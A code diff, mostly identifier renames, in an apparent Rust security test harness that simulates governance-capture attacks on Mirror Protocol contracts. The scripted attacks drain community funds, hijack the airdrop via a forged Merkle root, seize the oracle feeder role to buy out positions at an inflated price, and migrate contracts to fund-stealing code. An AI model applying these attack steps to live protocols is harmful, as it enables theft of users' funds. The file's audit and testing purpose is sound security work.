@@ -9,12 +9,13 @@ use mirror_testing::{percent, standard_profile, usual_listing, Actor, TestChain,
 use serde_json::json;
 use terraswap::asset::Asset;
 
-use super::super::bundle::{base, Bundle};
-use super::super::polls::{self, Motion, PURSE};
-use super::super::scenes::{self, DAY, MILLION, UNIT};
-use super::super::stage::Stage;
-use super::super::told::{Attempt, Exposure, Findings, Report};
-use super::super::{evil, Attack};
+use crate::attacks::attack::Attack;
+use crate::attacks::findings::{Attempt, Exposure, Findings, Report};
+use crate::attacks::fixtures::{self, DAY, MILLION, UNIT};
+use crate::attacks::polls::{self, Proposal, PURSE};
+use crate::attacks::thieving_code;
+use crate::attacks::transaction::{base, Transaction};
+use crate::attacks::trial::Trial;
 
 pub(super) const ATTACK: Attack = Attack {
     name: super::CAPTURED,
@@ -149,40 +150,40 @@ fn run() -> anyhow::Result<Findings> {
 }
 
 fn decides(kind: Kind, house: House) -> anyhow::Result<(Attempt, PollStatus)> {
-    let mut stage = prepared(house)?;
+    let mut trial = prepared(house)?;
     let mut status = PollStatus::InProgress;
     let mut open = vec![];
-    for motion in motions(&mut stage, kind)? {
-        let poll_id = polls::proposes(&mut stage, "T-61", &motion)?;
-        open.extend(poll_id.map(|poll_id| (poll_id, motion)));
+    for proposal in motions(&mut trial, kind)? {
+        let poll_id = polls::proposes(&mut trial, "T-61", &proposal)?;
+        open.extend(poll_id.map(|poll_id| (poll_id, proposal)));
     }
     for (poll_id, _) in &open {
-        polls::votes(&mut stage, *poll_id)?;
+        polls::votes(&mut trial, *poll_id)?;
         if house.resists {
             for name in ["alice", "bob", "carol"] {
-                stage.world.actor(name).votes(*poll_id, VoteOption::No);
+                trial.world.actor(name).votes(*poll_id, VoteOption::No);
             }
         }
     }
-    for (poll_id, motion) in open {
-        status = polls::concludes(&mut stage, "T-61", poll_id, &motion)?;
+    for (poll_id, proposal) in open {
+        status = polls::concludes(&mut trial, "T-61", poll_id, &proposal)?;
     }
     if status == PollStatus::Executed {
-        takes(&mut stage, kind)?;
+        takes(&mut trial, kind)?;
     }
-    polls::leaves(&mut stage)?;
-    Ok((stage.ends(String::new())?, status))
+    polls::leaves(&mut trial)?;
+    Ok((trial.ends(String::new())?, status))
 }
 
 /// A governed protocol with something in every purse, 31 days after the hand-over.
-fn prepared(house: House) -> anyhow::Result<Stage> {
+fn prepared(house: House) -> anyhow::Result<Trial> {
     let mut profile = standard_profile(&TestChain::new());
     profile.oracle_max_deviation = None;
     profile.assets = vec![usual_listing("mAAPL")];
     let mut world = World::governed_as(profile);
     world.chain.pass(31 * DAY);
     world.feeds(&[("mAAPL", "10")]);
-    scenes::pool(&mut world, "mAAPL", MILLION);
+    fixtures::pool(&mut world, "mAAPL", MILLION);
     world.bob().opens(10 * MILLION, "mAAPL", percent(200));
     let (attacker, who) = (world.chain.account("attacker"), world.at.factory.clone());
     let mirror = world.at.mirror_token.clone();
@@ -200,97 +201,97 @@ fn prepared(house: House) -> anyhow::Result<Stage> {
     world.actor("attacker").tries_to_stake_mir(house.own)?;
     world.chain.pass(6);
     let prices = [
-        ("mAAPL", scenes::price("10")?),
-        ("MIR", scenes::price("0.5")?),
+        ("mAAPL", fixtures::price("10")?),
+        ("MIR", fixtures::price("0.5")?),
     ];
-    Stage::new(world, &prices)
+    Trial::new(world, &prices)
 }
 
-fn motions(stage: &mut Stage, kind: Kind) -> anyhow::Result<Vec<Motion>> {
-    let at = stage.world.at.clone();
-    let attacker = stage.attacker.to_string();
-    let code_id = stage.world.chain.app.store_code(evil::code());
+fn motions(trial: &mut Trial, kind: Kind) -> anyhow::Result<Vec<Proposal>> {
+    let at = trial.world.at.clone();
+    let attacker = trial.attacker.to_string();
+    let code_id = trial.world.chain.app.store_code(thieving_code::code());
     Ok(match kind {
         Kind::Default => {
             let spend = community::ExecuteMsg::Spend {
                 recipient: attacker,
                 amount: Uint128::new(MILLION),
             };
-            let grant = Motion::call(&at.community, &spend)?;
+            let grant = Proposal::call(&at.community, &spend)?;
             vec![grant.clone(), grant]
         }
         Kind::Execute => {
-            let (tree, _) = list(stage)?;
+            let (tree, _) = list(trial)?;
             let list = airdrop::ExecuteMsg::RegisterMerkleRoot {
                 merkle_root: tree.root().to_string(),
                 total_amount: None,
                 expiration: None,
             };
-            vec![Motion::execute(&at.uni_airdrop, &list)?]
+            vec![Proposal::execute(&at.uni_airdrop, &list)?]
         }
         Kind::Feeder => {
             let register = json!({ "register_asset": {
-                "asset_token": stage.world.token("mAAPL"), "feeder": attacker,
+                "asset_token": trial.world.token("mAAPL"), "feeder": attacker,
             } });
             let pass = factory::ExecuteMsg::PassCommand {
                 contract_addr: at.oracle.to_string(),
                 msg: to_json_binary(&register)?,
             };
-            vec![Motion::execute(&at.factory, &pass)?]
+            vec![Proposal::execute(&at.factory, &pass)?]
         }
         Kind::ExecuteCode => {
             let migrate = terraswap::factory::ExecuteMsg::MigratePair {
-                contract: stage.world.asset("mAAPL").pair.into_string(),
+                contract: trial.world.asset("mAAPL").pair.into_string(),
                 code_id: Some(code_id),
             };
-            vec![Motion::execute(&at.swap_factory, &migrate)?]
+            vec![Proposal::execute(&at.swap_factory, &migrate)?]
         }
         Kind::Migration => {
-            let msg = to_json_binary(&evil::MigrateMsg {
-                thief: Some(stage.attacker.clone()),
+            let msg = to_json_binary(&thieving_code::MigrateMsg {
+                thief: Some(trial.attacker.clone()),
                 token: Some(at.mirror_token),
             })?;
             let both = [at.community, at.mint];
             let migrations = both.map(|contract| (contract.into_string(), code_id, msg.clone()));
             let migrations = migrations.to_vec();
-            vec![Motion::admin(PollAdminAction::ExecuteMigrations {
+            vec![Proposal::admin(PollAdminAction::ExecuteMigrations {
                 migrations,
             })]
         }
-        Kind::AuthAdmin => vec![Motion::admin(PollAdminAction::AuthorizeClaim {
+        Kind::AuthAdmin => vec![Proposal::admin(PollAdminAction::AuthorizeClaim {
             authorized_addr: attacker,
         })],
     })
 }
 
 /// What is left in the airdrop to UNI holders.
-fn list(stage: &Stage) -> anyhow::Result<(Tree, Uint128)> {
-    let at = &stage.world.at;
-    let left = stage.world.token_balance(&at.mirror_token, &at.uni_airdrop);
-    let tree = Tree::new(vec![leaf(stage.attacker.as_str(), left)])?;
+fn list(trial: &Trial) -> anyhow::Result<(Tree, Uint128)> {
+    let at = &trial.world.at;
+    let left = trial.world.token_balance(&at.mirror_token, &at.uni_airdrop);
+    let tree = Tree::new(vec![leaf(trial.attacker.as_str(), left)])?;
     Ok((tree, left))
 }
 
 /// What the poll has opened is carried away.
-fn takes(stage: &mut Stage, kind: Kind) -> anyhow::Result<()> {
-    let at = stage.world.at.clone();
+fn takes(trial: &mut Trial, kind: Kind) -> anyhow::Result<()> {
+    let at = trial.world.at.clone();
     if kind == Kind::Execute {
-        let (_, amount) = list(stage)?;
+        let (_, amount) = list(trial)?;
         let claim = airdrop::ExecuteMsg::Claim {
             stage: 1,
             amount,
             proof: vec![],
             address: None,
         };
-        stage.does(Bundle::new().tells(&at.uni_airdrop, &claim))?;
+        trial.does(Transaction::new().tells(&at.uni_airdrop, &claim))?;
     }
     if kind == Kind::Feeder {
-        buys_out(stage)?;
+        buys_out(trial)?;
     }
     if kind == Kind::AuthAdmin {
-        let new_code_id = stage.world.chain.app.store_code(evil::code());
-        let msg = to_json_binary(&evil::MigrateMsg {
-            thief: Some(stage.attacker.clone()),
+        let new_code_id = trial.world.chain.app.store_code(thieving_code::code());
+        let msg = to_json_binary(&thieving_code::MigrateMsg {
+            thief: Some(trial.attacker.clone()),
             token: Some(at.mirror_token),
         })?;
         for contract in [at.community, at.mint] {
@@ -302,9 +303,9 @@ fn takes(stage: &mut Stage, kind: Kind) -> anyhow::Result<()> {
                 new_code_id,
                 msg: msg.clone(),
             };
-            let mut bundle = Bundle::new().tells(&at.admin_manager, &claim);
-            bundle.messages.push(Ok(migrate.into()));
-            stage.does(bundle)?;
+            let mut transaction = Transaction::new().tells(&at.admin_manager, &claim);
+            transaction.messages.push(Ok(migrate.into()));
+            trial.does(transaction)?;
         }
     }
     Ok(())
@@ -312,19 +313,20 @@ fn takes(stage: &mut Stage, kind: Kind) -> anyhow::Result<()> {
 
 /// At a price a thousand times the fair one every position is for sale for next to nothing: the
 /// debt that buys it out is minted at the fair one before.
-fn buys_out(stage: &mut Stage) -> anyhow::Result<()> {
-    let (at, token) = (stage.world.at.clone(), stage.world.token("mAAPL"));
-    let post =
-        |price: u128| Bundle::new().feeds(&at.oracle, &token, Decimal::from_ratio(price, 1u128));
-    stage.world.chain.pass(6);
-    stage.does(post(10))?;
+fn buys_out(trial: &mut Trial) -> anyhow::Result<()> {
+    let (at, token) = (trial.world.at.clone(), trial.world.token("mAAPL"));
+    let post = |price: u128| {
+        Transaction::new().feeds(&at.oracle, &token, Decimal::from_ratio(price, 1u128))
+    };
+    trial.world.chain.pass(6);
+    trial.does(post(10))?;
     let paid = base(50_000 * UNIT);
-    stage.does(Bundle::new().opens(&at.mint, paid, &token, percent(200)))?;
-    stage.world.chain.pass(6);
-    stage.does(post(10_000))?;
+    trial.does(Transaction::new().opens(&at.mint, paid, &token, percent(200)))?;
+    trial.world.chain.pass(6);
+    trial.does(post(10_000))?;
     for idx in 1..=2u128 {
         let part = Asset::token(&token, PRICE_OF_ALL);
-        stage.does(Bundle::new().auctions(&at.mint, idx.into(), part))?;
+        trial.does(Transaction::new().auctions(&at.mint, idx.into(), part))?;
     }
     Ok(())
 }
